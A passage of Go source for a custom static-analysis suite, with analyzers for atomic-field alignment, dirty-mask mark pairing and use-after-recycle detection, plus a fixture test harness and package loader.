// a data race the race detector only catches when the schedule
// cooperates.
var AtomicPadAnalyzer = &Analyzer{
	Name: "atomicpad",
	Doc:  "padded atomic structs must keep alignment, quantization, and atomic-only access",
	Run:  runAtomicPad,
}

func runAtomicPad(pass *Pass) error {
	checkPaddedStruct := func(name string, st *types.Struct, pos ast.Node) {
		size := pass.Sizes.Sizeof(st)
		if size%64 != 0 {
			pass.Reportf(pos.Pos(),
				"padded struct %s is %d bytes; //iotsan:padded structs must be a multiple of the 64-byte cacheline (add or fix the _ [N]byte pad)",
				name, size)
		}
		fields := make([]*types.Var, st.NumFields())
		for i := range fields {
			fields[i] = st.Field(i)
		}
		offsets := pass.Sizes.Offsetsof(fields)
		for i, f := range fields {
			if !isAtomic64Type(f.Type()) {
				continue
			}
			if offsets[i]%8 != 0 {
				pass.Reportf(pos.Pos(),
					"atomic field %s.%s sits at offset %d; 64-bit atomic fields must be 8-byte aligned",
					name, f.Name(), offsets[i])
			}
		}
	}

	// structOf unwraps pointers, arrays, and slices down to a struct.
	var structOf func(t types.Type) (*types.Struct, bool)
	structOf = func(t types.Type) (*types.Struct, bool) {
		switch t := t.Underlying().(type) {
		case *types.Struct:
			return t, true
		case *types.Pointer:
			return structOf(t.Elem())
		case *types.Array:
			return structOf(t.Elem())
		case *types.Slice:
			return structOf(t.Elem())
		}
		return nil, false
	}

	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			gd, ok := decl.(*ast.GenDecl)
			if !ok {
				continue
			}
			for _, spec := range gd.Specs {
				ts, ok := spec.(*ast.TypeSpec)
				if !ok {
					continue
				}
				for _, dir := range nodeDirectives(gd.Doc, ts.Doc, ts.Comment) {
					if dir.kind != "padded" {
						continue
					}
					tn, _ := pass.Info.Defs[ts.Name].(*types.TypeName)
					if tn == nil {
						continue
					}
					if st, ok := structOf(tn.Type()); ok {
						checkPaddedStruct(tn.Name(), st, ts)
					} else {
						pass.Reportf(ts.Pos(), "//iotsan:padded on %s, which is not a struct type", tn.Name())
					}
				}
				// Field-level annotation: the field's element type is padded.
				if st, ok := ts.Type.(*ast.StructType); ok {
					for _, f := range st.Fields.List {
						for _, dir := range nodeDirectives(f.Doc, f.Comment) {
							if dir.kind != "padded" {
								continue
							}
							ft := pass.Info.TypeOf(f.Type)
							if ft == nil {
								continue
							}
							fieldName := "_"
							if len(f.Names) > 0 {
								fieldName = f.Names[0].Name
							}
							if est, ok := structOf(ft); ok {
								checkPaddedStruct(ts.Name.Name+"."+fieldName, est, f)
							} else {
								pass.Reportf(f.Pos(), "//iotsan:padded on field %s.%s, which is not struct-backed", ts.Name.Name, fieldName)
							}
						}
					}
				}
			}
		}
	}

	return checkMixedAtomicAccess(pass)
}

// isAtomic64Type reports whether t is a 64-bit atomic value type or a
// plain 64-bit integer (candidate for sync/atomic function access).
func isAtomic64Type(t types.Type) bool {
	if named, ok := t.(*types.Named); ok {
		obj := named.Obj()
		if obj.Pkg() != nil && obj.Pkg().Path() == "sync/atomic" {
			switch obj.Name() {
			case "Int64", "Uint64", "Pointer":
				return true
			}
		}
	}
	if b, ok := t.Underlying().(*types.Basic); ok {
		switch b.Kind() {
		case types.Int64, types.Uint64, types.Uintptr:
			return true
		}
	}
	return false
}

// checkMixedAtomicAccess flags plain reads/writes of fields that are
// elsewhere accessed via sync/atomic functions.
func checkMixedAtomicAccess(pass *Pass) error {
	// Pass 1: fields passed by address to sync/atomic functions, and
	// the selector expressions sanctioned by that usage.
	atomicFields := make(map[types.Object]bool)
	sanctioned := make(map[ast.Expr]bool)
	for _, file := range pass.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn := calleeFunc(pass.Info, call)
			if fn == nil || fn.Pkg() == nil || fn.Pkg().Path() != "sync/atomic" {
				return true
			}
			for _, arg := range call.Args {
				un, ok := ast.Unparen(arg).(*ast.UnaryExpr)
				if !ok || un.Op.String() != "&" {
					continue
				}
				sel, ok := ast.Unparen(un.X).(*ast.SelectorExpr)
				if !ok {
					continue
				}
				if s := pass.Info.Selections[sel]; s != nil {
					if v, ok := s.Obj().(*types.Var); ok && v.IsField() {
						atomicFields[v] = true
						sanctioned[sel] = true
					}
				}
			}
			return true
		})
	}
	if len(atomicFields) == 0 {
		return nil
	}

	// Pass 2: any other selector resolving to one of those fields is a
	// mixed access, unless it sits in a constructor/init function.
	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			if isInitLike(fn.Name.Name) {
				continue
			}
			ast.Inspect(fn.Body, func(n ast.Node) bool {
				sel, ok := n.(*ast.SelectorExpr)
				if !ok || sanctioned[sel] {
					return true
				}
				s := pass.Info.Selections[sel]
				if s == nil {
					return true
				}
				if v, ok := s.Obj().(*types.Var); ok && atomicFields[v] {
					pass.Reportf(sel.Pos(),
						"field %s is accessed with sync/atomic elsewhere; non-atomic access outside New*/init functions races with it",
						v.Name())
				}
				return true
			})
		}
	}
	return nil
}

func isInitLike(name string) bool {
	return name == "init" || strings.HasPrefix(name, "New") || strings.HasPrefix(name, "new")
}
