package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// DirtyMarkAnalyzer enforces the PR 6 dirty-mask mark contract: inside
// a package that declares mark helpers (functions annotated
// `//iotsan:marks <block>`), every write to block-backed state storage
// (fields or types annotated `//iotsan:block <block>`) must be paired
// in the same function with a call to the matching mark helper, or to
// a helper annotated `//iotsan:marks all`.
//
// A helper that mutates annotated storage on behalf of its callers can
// be annotated `//iotsan:writes <block>`: its own body is exempt for
// that block, and every call to it counts as a write of that block at
// the call site, moving the mark obligation to the caller.
//
// The check is syntactic within one function body: a mark call
// anywhere in the function (including conditionally) satisfies the
// pairing, which matches how the runtime walk oracle exercises the
// contract. Packages with no `//iotsan:marks` helpers are ignored.
var DirtyMarkAnalyzer = &Analyzer{
	Name: "dirtymark",
	Doc:  "state mutations must be paired with the matching dirty-mask mark call",
	Run:  runDirtyMark,
}

func runDirtyMark(pass *Pass) error {
	// Learn the mutation→mark map from annotations.
	markFns := make(map[*types.Func]string)  // mark helper -> block ("all" wildcard)
	writeFns := make(map[*types.Func]string) // caller-marked writer -> block
	blockOfField := make(map[types.Object]string)
	blockOfNamed := make(map[*types.TypeName]string)
	helperName := make(map[string]string) // block -> helper name, for messages

	recordFieldBlocks := func(st *ast.StructType, block string) {
		for _, f := range st.Fields.List {
			for _, name := range f.Names {
				if obj := pass.Info.Defs[name]; obj != nil {
					blockOfField[obj] = block
				}
			}
		}
	}

	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			switch d := decl.(type) {
			case *ast.FuncDecl:
				obj, _ := pass.Info.Defs[d.Name].(*types.Func)
				if obj == nil {
					continue
				}
				for _, dir := range parseDirectives(d.Doc) {
					switch dir.kind {
					case "marks":
						markFns[obj] = dir.args
						if dir.args != "all" {
							helperName[dir.args] = d.Name.Name
						}
					case "writes":
						writeFns[obj] = dir.args
					}
				}
			case *ast.GenDecl:
				for _, spec := range d.Specs {
					ts, ok := spec.(*ast.TypeSpec)
					if !ok {
						continue
					}
					for _, dir := range nodeDirectives(d.Doc, ts.Doc, ts.Comment) {
						if dir.kind != "block" {
							continue
						}
						if tn, _ := pass.Info.Defs[ts.Name].(*types.TypeName); tn != nil {
							blockOfNamed[tn] = dir.args
						}
						if st, ok := ts.Type.(*ast.StructType); ok {
							recordFieldBlocks(st, dir.args)
						}
					}
					// Per-field annotations inside any struct type.
					if ts, ok := spec.(*ast.TypeSpec); ok {
						if st, ok := ts.Type.(*ast.StructType); ok {
							for _, f := range st.Fields.List {
								for _, dir := range nodeDirectives(f.Doc, f.Comment) {
									if dir.kind != "block" {
										continue
									}
									for _, name := range f.Names {
										if obj := pass.Info.Defs[name]; obj != nil {
											blockOfField[obj] = dir.args
										}
									}
								}
							}
						}
					}
				}
			}
		}
	}
	if len(markFns) == 0 {
		return nil // package does not participate in the mark contract
	}

	// blockOf resolves a write target to its annotated block, or "".
	// derefed tracks whether the walk has passed through an index,
	// dereference, or field step: a bare identifier assignment rebinds
	// a variable and is never a state write, but writing through one
	// (d.Online = ..., arr[i] = ...) mutates the pointed-to object.
	// Unannotated field selections descend into their base, so
	// as.Timers[i].Delay resolves through the annotated Timers field.
	var blockOf func(expr ast.Expr, derefed bool) string
	blockOf = func(expr ast.Expr, derefed bool) string {
		switch e := expr.(type) {
		case *ast.IndexExpr:
			return blockOf(e.X, true)
		case *ast.StarExpr:
			return blockOf(e.X, true)
		case *ast.ParenExpr:
			return blockOf(e.X, derefed)
		case *ast.SelectorExpr:
			if sel := pass.Info.Selections[e]; sel != nil {
				if b, ok := blockOfField[sel.Obj()]; ok {
					return b
				}
			}
			return blockOf(e.X, true)
		case *ast.Ident:
			if !derefed {
				return ""
			}
			obj := pass.Info.Uses[e]
			if obj == nil {
				return ""
			}
			t := obj.Type()
			for {
				switch tt := t.(type) {
				case *types.Pointer:
					t = tt.Elem()
					continue
				case *types.Slice:
					t = tt.Elem()
					continue
				case *types.Array:
					t = tt.Elem()
					continue
				}
				break
			}
			if named, ok := t.(*types.Named); ok {
				if b, ok := blockOfNamed[named.Obj()]; ok {
					return b
				}
			}
		}
		return ""
	}

	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			fnObj, _ := pass.Info.Defs[fn.Name].(*types.Func)
			if _, isMark := markFns[fnObj]; isMark {
				continue
			}
			exempt := map[string]bool{}
			if b, ok := writeFns[fnObj]; ok {
				exempt[b] = true
			}

			required := make(map[string]token.Pos) // block -> first write pos
			marked := make(map[string]bool)
			need := func(block string, pos token.Pos) {
				if block == "" || exempt[block] {
					return
				}
				if _, ok := required[block]; !ok {
					required[block] = pos
				}
			}

			ast.Inspect(fn.Body, func(n ast.Node) bool {
				switch s := n.(type) {
				case *ast.AssignStmt:
					for _, lhs := range s.Lhs {
						if id, ok := lhs.(*ast.Ident); ok && id.Name == "_" {
							continue
						}
						need(blockOf(lhs, false), lhs.Pos())
					}
				case *ast.IncDecStmt:
					need(blockOf(s.X, false), s.X.Pos())
				case *ast.CallExpr:
					callee := calleeFunc(pass.Info, s)
					if callee == nil {
						return true
					}
					if b, ok := markFns[callee]; ok {
						marked[b] = true
					}
					if b, ok := writeFns[callee]; ok {
						need(b, s.Pos())
					}
				}
				return true
			})

			var blocks []string
			for b := range required {
				blocks = append(blocks, b)
			}
			sort.Strings(blocks)
			for _, b := range blocks {
				if marked[b] || marked["all"] {
					continue
				}
				helper := helperName[b]
				if helper == "" {
					helper = "the " + b + " mark helper"
				}
				pass.Reportf(required[b],
					"write to %s-block state is not paired with %s (or a marks-all helper) in this function", b, helper)
			}
		}
	}
	return nil
}

// calleeFunc resolves the static callee of a call, or nil for builtins,
// function values, and type conversions.
func calleeFunc(info *types.Info, call *ast.CallExpr) *types.Func {
	var obj types.Object
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		obj = info.Uses[fun]
	case *ast.SelectorExpr:
		if sel := info.Selections[fun]; sel != nil {
			obj = sel.Obj()
		} else {
			obj = info.Uses[fun.Sel] // package-qualified call
		}
	}
	fn, _ := obj.(*types.Func)
	return fn
}

// pathString renders an expression as a canonical access-path string
// for taint keys, e.g. "ent.state" or "trs[i].Next". It returns "" for
// expressions that are not rooted at a plain identifier.
func pathString(e ast.Expr) string {
	var b strings.Builder
	if !writePath(&b, e) {
		return ""
	}
	return b.String()
}

func writePath(b *strings.Builder, e ast.Expr) bool {
	switch e := e.(type) {
	case *ast.Ident:
		b.WriteString(e.Name)
		return true
	case *ast.SelectorExpr:
		if !writePath(b, e.X) {
			return false
		}
		b.WriteByte('.')
		b.WriteString(e.Sel.Name)
		return true
	case *ast.IndexExpr:
		if !writePath(b, e.X) {
			return false
		}
		b.WriteByte('[')
		if id, ok := ast.Unparen(e.Index).(*ast.Ident); ok {
			b.WriteString(id.Name)
		} else {
			b.WriteByte('*')
		}
		b.WriteByte(']')
		return true
	case *ast.StarExpr:
		return writePath(b, e.X)
	case *ast.ParenExpr:
		return writePath(b, e.X)
	}
	return false
}
