package analysis

// An analysistest-style golden-fixture harness: each analyzer is run
// over a fixture package under testdata/src/<name>/, and the resulting
// diagnostics are matched line-by-line against `want` expectations
// embedded in the fixture's comments. A want expectation is the word
// `want` followed by one or more quoted regular expressions:
//
//	s.Mode = 3 // want `write to header-block state`
//
// Every diagnostic must match an expectation on its line and every
// expectation must be matched, so fixtures fail both on missed
// violations (the analyzer lost a check) and on spurious ones.

import (
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
)

var fixtureLoader = struct {
	once sync.Once
	l    *Loader
}{}

func loadFixture(t *testing.T, name string) *Package {
	t.Helper()
	fixtureLoader.once.Do(func() { fixtureLoader.l = NewSourceLoader() })
	pkg, err := fixtureLoader.l.LoadDir(filepath.Join("testdata", "src", name))
	if err != nil {
		t.Fatalf("loading fixture %s: %v", name, err)
	}
	return pkg
}

var (
	wantRe   = regexp.MustCompile("//.*?\\bwant\\b((?:\\s+(?:`[^`]*`|\"(?:[^\"\\\\]|\\\\.)*\"))+)")
	quotedRe = regexp.MustCompile("`[^`]*`|\"(?:[^\"\\\\]|\\\\.)*\"")
)

type wantKey struct {
	file string
	line int
}

// parseWants extracts the expectations from every fixture file.
func parseWants(t *testing.T, pkg *Package) map[wantKey][]*regexp.Regexp {
	t.Helper()
	wants := make(map[wantKey][]*regexp.Regexp)
	for _, f := range pkg.Files {
		filename := pkg.Fset.Position(f.Pos()).Filename
		data, err := os.ReadFile(filename)
		if err != nil {
			t.Fatalf("reading %s: %v", filename, err)
		}
		for i, line := range strings.Split(string(data), "\n") {
			m := wantRe.FindStringSubmatch(line)
			if m == nil {
				continue
			}
			key := wantKey{file: filename, line: i + 1}
			for _, q := range quotedRe.FindAllString(m[1], -1) {
				var pat string
				if q[0] == '`' {
					pat = q[1 : len(q)-1]
				} else {
					pat, err = strconv.Unquote(q)
					if err != nil {
						t.Fatalf("%s:%d: bad want string %s: %v", filename, i+1, q, err)
					}
				}
				re, err := regexp.Compile(pat)
				if err != nil {
					t.Fatalf("%s:%d: bad want regexp %q: %v", filename, i+1, pat, err)
				}
				wants[key] = append(wants[key], re)
			}
		}
	}
	return wants
}

// runFixture runs one analyzer over its fixture package and matches
// diagnostics against the embedded expectations.
func runFixture(t *testing.T, name string, a *Analyzer) {
	t.Helper()
	pkg := loadFixture(t, name)
	wants := parseWants(t, pkg)
	diags, err := Run(pkg, []*Analyzer{a})
	if err != nil {
		t.Fatalf("running %s: %v", a.Name, err)
	}
	matched := make(map[wantKey][]bool)
	for k, res := range wants {
		matched[k] = make([]bool, len(res))
	}
	for _, d := range diags {
		key := wantKey{file: d.Pos.Filename, line: d.Pos.Line}
		res := wants[key]
		found := false
		for i, re := range res {
			if matched[key][i] {
				continue
			}
			if re.MatchString(d.Message) {
				matched[key][i] = true
				found = true
				break
			}
		}
		if !found {
			t.Errorf("unexpected diagnostic:\n  %s", d)
		}
	}
	for key, res := range wants {
		for i, re := range res {
			if !matched[key][i] {
				t.Errorf("%s:%d: expected diagnostic matching %q, got none",
					relPath(key.file), key.line, re)
			}
		}
	}
}

func relPath(p string) string {
	if wd, err := os.Getwd(); err == nil {
		if r, err := filepath.Rel(wd, p); err == nil {
			return r
		}
	}
	return p
}

func TestDirtyMarkFixture(t *testing.T)    { runFixture(t, "dirtymark", DirtyMarkAnalyzer) }
func TestRecycleLiveFixture(t *testing.T)  { runFixture(t, "recyclelive", RecycleLiveAnalyzer) }
func TestDigestFunnelFixture(t *testing.T) { runFixture(t, "digestfunnel", DigestFunnelAnalyzer) }
func TestAtomicPadFixture(t *testing.T)    { runFixture(t, "atomicpad", AtomicPadAnalyzer) }

// TestSuiteOrder pins the diagnostic ordering contract of Run: findings
// come out sorted by file, line, column regardless of analyzer order.
func TestSuiteOrder(t *testing.T) {
	pkg := loadFixture(t, "dirtymark")
	diags, err := Run(pkg, Analyzers())
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(diags); i++ {
		a, b := diags[i-1], diags[i]
		if a.Pos.Filename > b.Pos.Filename ||
			(a.Pos.Filename == b.Pos.Filename && a.Pos.Line > b.Pos.Line) {
			t.Fatalf("diagnostics out of order: %s before %s", a, b)
		}
	}
}
