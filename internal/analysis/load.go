package analysis

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
)

// A Package is one parsed and type-checked package ready for analysis.
type Package struct {
	Path  string
	Fset  *token.FileSet
	Files []*ast.File
	Types *types.Package
	Info  *types.Info
	Sizes types.Sizes
}

// A Loader parses and type-checks packages against a shared FileSet
// and importer. The importer decides where dependencies come from:
// the source importer (NewSourceLoader) compiles them from source,
// while the iotsan-vet driver supplies a gc-export-data importer fed
// by the go command's build cache.
type Loader struct {
	fset *token.FileSet
	imp  types.Importer
}

// NewSourceLoader returns a loader that resolves imports by
// type-checking their source. It needs no pre-built export data, which
// makes it the right choice for fixture tests, at the cost of
// compiling the transitive closure of imports on first use.
func NewSourceLoader() *Loader {
	fset := token.NewFileSet()
	return &Loader{fset: fset, imp: importer.ForCompiler(fset, "source", nil)}
}

// NewLoader returns a loader over the caller's FileSet and importer.
func NewLoader(fset *token.FileSet, imp types.Importer) *Loader {
	return &Loader{fset: fset, imp: imp}
}

// LoadFiles parses and type-checks the named Go files as one package
// identified by path.
func (l *Loader) LoadFiles(path string, filenames []string) (*Package, error) {
	var files []*ast.File
	for _, name := range filenames {
		f, err := parser.ParseFile(l.fset, name, nil, parser.ParseComments)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}
	return l.check(path, files)
}

// LoadDir parses and type-checks every non-test .go file in dir as one
// package. Build constraints are not evaluated; fixture directories
// must therefore hold exactly one buildable file set.
func (l *Loader) LoadDir(dir string) (*Package, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var filenames []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		filenames = append(filenames, filepath.Join(dir, name))
	}
	sort.Strings(filenames)
	if len(filenames) == 0 {
		return nil, fmt.Errorf("no Go files in %s", dir)
	}
	return l.LoadFiles(dir, filenames)
}

func (l *Loader) check(path string, files []*ast.File) (*Package, error) {
	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Implicits:  make(map[ast.Node]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	sizes := types.SizesFor("gc", runtime.GOARCH)
	conf := types.Config{Importer: l.imp, Sizes: sizes}
	var firstErr error
	conf.Error = func(err error) {
		if firstErr == nil {
			firstErr = err
		}
	}
	tpkg, err := conf.Check(path, l.fset, files, info)
	if err != nil {
		if firstErr != nil {
			err = firstErr
		}
		return nil, fmt.Errorf("typecheck %s: %w", path, err)
	}
	return &Package{
		Path:  path,
		Fset:  l.fset,
		Files: files,
		Types: tpkg,
		Info:  info,
		Sizes: sizes,
	}, nil
}
