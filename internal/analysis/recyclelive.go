package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// RecycleLiveAnalyzer is the static complement of the PR 8 poisoning
// tests: once a value flows into a retire/recycle sink (a function or
// interface method annotated `//iotsan:retires <param>`), any later
// read of that value — or write into the object it names — in the same
// function is reported. Reassigning the variable (typically `x = nil`)
// clears the taint, which is exactly the engine's sanctioned idiom:
//
//	e.rec.Recycle(trs[i].Next)
//	trs[i].Next = nil
//
// The analysis is intraprocedural and flow-ordered: if/else and switch
// branches are scanned independently from the same entry state and
// merged by union, loop bodies are scanned once (taints do not
// propagate around back-edges), and access paths are compared
// syntactically with indexes normalized per index expression. Passing
// an already-retired value to a second sink is reported as a
// double-retire.
var RecycleLiveAnalyzer = &Analyzer{
	Name: "recyclelive",
	Doc:  "values must not be used after flowing into a recycle/retire sink",
	Run:  runRecycleLive,
}

func runRecycleLive(pass *Pass) error {
	sinks := collectRetireSinks(pass)
	if len(sinks) == 0 {
		return nil
	}
	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			sc := &retireScanner{pass: pass, sinks: sinks}
			sc.stmt(fn.Body, taintSet{})
		}
	}
	return nil
}

// collectRetireSinks maps each annotated function or interface method
// to the index of the parameter it retires.
func collectRetireSinks(pass *Pass) map[*types.Func]int {
	sinks := make(map[*types.Func]int)
	record := func(obj types.Object, param string) {
		fn, ok := obj.(*types.Func)
		if !ok || param == "" {
			return
		}
		sig := fn.Signature()
		for i := 0; i < sig.Params().Len(); i++ {
			if sig.Params().At(i).Name() == param {
				sinks[fn] = i
				return
			}
		}
	}
	for _, file := range pass.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			switch d := n.(type) {
			case *ast.FuncDecl:
				for _, dir := range parseDirectives(d.Doc) {
					if dir.kind == "retires" {
						record(pass.Info.Defs[d.Name], dir.args)
					}
				}
			case *ast.InterfaceType:
				for _, m := range d.Methods.List {
					if len(m.Names) != 1 {
						continue
					}
					for _, dir := range nodeDirectives(m.Doc, m.Comment) {
						if dir.kind == "retires" {
							record(pass.Info.Defs[m.Names[0]], dir.args)
						}
					}
				}
			}
			return true
		})
	}
	return sinks
}

// taintSet maps a canonical access path to the position where the
// value it names was retired.
type taintSet map[string]token.Pos

func (t taintSet) clone() taintSet {
	c := make(taintSet, len(t))
	for k, v := range t {
		c[k] = v
	}
	return c
}

// merge unions other into t (conservative join after branches).
func (t taintSet) merge(other taintSet) {
	for k, v := range other {
		if _, ok := t[k]; !ok {
			t[k] = v
		}
	}
}

// setTo replaces t's contents with out.
func (t taintSet) setTo(out taintSet) {
	clear(t)
	for k, v := range out {
		t[k] = v
	}
}

// hit reports the retire position if some tainted path is a prefix of
// path (reading a retired value or one of its sub-objects).
func (t taintSet) hit(path string) (token.Pos, bool) {
	for k, pos := range t {
		if path == k || strings.HasPrefix(path, k+".") || strings.HasPrefix(path, k+"[") {
			return pos, true
		}
	}
	return token.NoPos, false
}

// extends reports whether path writes strictly inside a retired
// object (tainted path is a strict prefix of path).
func (t taintSet) extends(path string) (token.Pos, bool) {
	for k, pos := range t {
		if strings.HasPrefix(path, k+".") || strings.HasPrefix(path, k+"[") {
			return pos, true
		}
	}
	return token.NoPos, false
}

// untaint clears path and everything under or over it: assigning to a
// variable kills its taint, and replacing a container kills taints on
// its elements.
func (t taintSet) untaint(path string) {
	for k := range t {
		if k == path ||
			strings.HasPrefix(k, path+".") || strings.HasPrefix(k, path+"[") ||
			strings.HasPrefix(path, k+".") || strings.HasPrefix(path, k+"[") {
			delete(t, k)
		}
	}
}

type retireScanner struct {
	pass  *Pass
	sinks map[*types.Func]int
}

func (sc *retireScanner) reportUse(pos token.Pos, path string, retired token.Pos) {
	sc.pass.Reportf(pos, "use of %s after it was passed to a recycle/retire sink at line %d",
		path, sc.pass.Fset.Position(retired).Line)
}

// stmt scans one statement, mutating t in place.
func (sc *retireScanner) stmt(s ast.Stmt, t taintSet) {
	switch s := s.(type) {
	case nil:
	case *ast.BlockStmt:
		for _, sub := range s.List {
			sc.stmt(sub, t)
		}
	case *ast.ExprStmt:
		sc.expr(s.X, t)
	case *ast.AssignStmt:
		for _, rhs := range s.Rhs {
			sc.expr(rhs, t)
		}
		for _, lhs := range s.Lhs {
			sc.assignTo(lhs, t)
		}
	case *ast.IncDecStmt:
		sc.expr(s.X, t)
	case *ast.DeclStmt:
		if gd, ok := s.Decl.(*ast.GenDecl); ok {
			for _, spec := range gd.Specs {
				if vs, ok := spec.(*ast.ValueSpec); ok {
					for _, v := range vs.Values {
						sc.expr(v, t)
					}
					for _, name := range vs.Names {
						t.untaint(name.Name)
					}
				}
			}
		}
	case *ast.IfStmt:
		sc.stmt(s.Init, t)
		sc.expr(s.Cond, t)
		base := t.clone()
		thenT := base.clone()
		sc.stmt(s.Body, thenT)
		elseT := base
		if s.Else != nil {
			elseT = base.clone()
			sc.stmt(s.Else, elseT)
		}
		// A branch that cannot fall through (return/continue/break/...)
		// contributes nothing to the taint state after the if.
		thenLive := !terminates(s.Body, true)
		elseLive := s.Else == nil || !terminates(s.Else, true)
		var out taintSet
		switch {
		case thenLive && elseLive:
			out = thenT
			out.merge(elseT)
		case thenLive:
			out = thenT
		case elseLive:
			out = elseT
		default:
			out = base // code after the if is unreachable
		}
		t.setTo(out)
	case *ast.ForStmt:
		sc.stmt(s.Init, t)
		sc.expr(s.Cond, t)
		base := t.clone()
		sc.stmt(s.Post, t)
		sc.stmt(s.Body, t)
		t.merge(base)
	case *ast.RangeStmt:
		sc.expr(s.X, t)
		base := t.clone()
		if s.Key != nil {
			sc.assignTo(s.Key, t)
		}
		if s.Value != nil {
			sc.assignTo(s.Value, t)
		}
		sc.stmt(s.Body, t)
		t.merge(base)
	case *ast.SwitchStmt:
		sc.stmt(s.Init, t)
		sc.expr(s.Tag, t)
		sc.caseClauses(s.Body, t)
	case *ast.TypeSwitchStmt:
		sc.stmt(s.Init, t)
		sc.stmt(s.Assign, t)
		sc.caseClauses(s.Body, t)
	case *ast.SelectStmt:
		base := t.clone()
		for _, clause := range s.Body.List {
			cc := clause.(*ast.CommClause)
			branch := base.clone()
			sc.stmt(cc.Comm, branch)
			for _, sub := range cc.Body {
				sc.stmt(sub, branch)
			}
			t.merge(branch)
		}
	case *ast.ReturnStmt:
		for _, r := range s.Results {
			sc.expr(r, t)
		}
	case *ast.SendStmt:
		sc.expr(s.Chan, t)
		sc.expr(s.Value, t)
	case *ast.DeferStmt:
		sc.expr(s.Call, t)
	case *ast.GoStmt:
		sc.expr(s.Call, t)
	case *ast.LabeledStmt:
		sc.stmt(s.Stmt, t)
	}
}

func (sc *retireScanner) caseClauses(body *ast.BlockStmt, t taintSet) {
	base := t.clone()
	for _, clause := range body.List {
		cc, ok := clause.(*ast.CaseClause)
		if !ok {
			continue
		}
		branch := base.clone()
		for _, e := range cc.List {
			sc.expr(e, branch)
		}
		live := true
		for _, sub := range cc.Body {
			sc.stmt(sub, branch)
		}
		if n := len(cc.Body); n > 0 {
			// A bare break just exits the switch, so its taints still
			// reach the code after it; return/continue/goto do not.
			live = !terminates(cc.Body[n-1], false)
		}
		if live {
			t.merge(branch)
		}
	}
}

// terminates reports whether control cannot fall out of s into the
// statement that follows it. breakEnds selects whether a break counts:
// it does for statements inside a loop body (the code right after is
// skipped), but not for switch case bodies (flow resumes after the
// switch, taints intact).
func terminates(s ast.Stmt, breakEnds bool) bool {
	switch s := s.(type) {
	case *ast.ReturnStmt:
		return true
	case *ast.BranchStmt:
		switch s.Tok {
		case token.BREAK:
			return breakEnds
		case token.CONTINUE, token.GOTO:
			return true
		}
		return false
	case *ast.BlockStmt:
		if len(s.List) == 0 {
			return false
		}
		return terminates(s.List[len(s.List)-1], breakEnds)
	case *ast.LabeledStmt:
		return terminates(s.Stmt, breakEnds)
	case *ast.IfStmt:
		return s.Else != nil && terminates(s.Body, breakEnds) && terminates(s.Else, breakEnds)
	case *ast.ExprStmt:
		if call, ok := s.X.(*ast.CallExpr); ok {
			if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok && id.Name == "panic" {
				return true
			}
		}
	}
	return false
}

// assignTo handles an assignment target: writing into a retired
// object is reported; replacing a binding (or a whole container)
// clears the taint.
func (sc *retireScanner) assignTo(lhs ast.Expr, t taintSet) {
	if id, ok := lhs.(*ast.Ident); ok && id.Name == "_" {
		return
	}
	path := pathString(lhs)
	if path == "" {
		sc.expr(lhs, t)
		return
	}
	if pos, ok := t.extends(path); ok {
		sc.reportUse(lhs.Pos(), path, pos)
		return
	}
	t.untaint(path)
	// Index expressions in the target still read their index operands.
	sc.indexOperands(lhs, t)
}

func (sc *retireScanner) indexOperands(e ast.Expr, t taintSet) {
	switch e := e.(type) {
	case *ast.IndexExpr:
		sc.expr(e.Index, t)
		sc.indexOperands(e.X, t)
	case *ast.SelectorExpr:
		sc.indexOperands(e.X, t)
	case *ast.StarExpr:
		sc.indexOperands(e.X, t)
	case *ast.ParenExpr:
		sc.indexOperands(e.X, t)
	}
}

// expr scans an expression for reads of tainted paths and applies sink
// calls in evaluation order.
func (sc *retireScanner) expr(e ast.Expr, t taintSet) {
	if e == nil {
		return
	}
	if path := pathString(e); path != "" {
		if pos, ok := t.hit(path); ok {
			sc.reportUse(e.Pos(), path, pos)
			return
		}
		// The path itself is clean; only its index operands can
		// still carry reads worth scanning.
		sc.indexOperands(e, t)
		return
	}
	switch e := e.(type) {
	case *ast.CallExpr:
		sc.call(e, t)
	case *ast.BinaryExpr:
		sc.expr(e.X, t)
		sc.expr(e.Y, t)
	case *ast.UnaryExpr:
		sc.expr(e.X, t)
	case *ast.StarExpr:
		sc.expr(e.X, t)
	case *ast.ParenExpr:
		sc.expr(e.X, t)
	case *ast.SelectorExpr:
		sc.expr(e.X, t)
	case *ast.IndexExpr:
		sc.expr(e.X, t)
		sc.expr(e.Index, t)
	case *ast.SliceExpr:
		sc.expr(e.X, t)
		sc.expr(e.Low, t)
		sc.expr(e.High, t)
		sc.expr(e.Max, t)
	case *ast.CompositeLit:
		for _, el := range e.Elts {
			sc.expr(el, t)
		}
	case *ast.KeyValueExpr:
		sc.expr(e.Key, t)
		sc.expr(e.Value, t)
	case *ast.TypeAssertExpr:
		sc.expr(e.X, t)
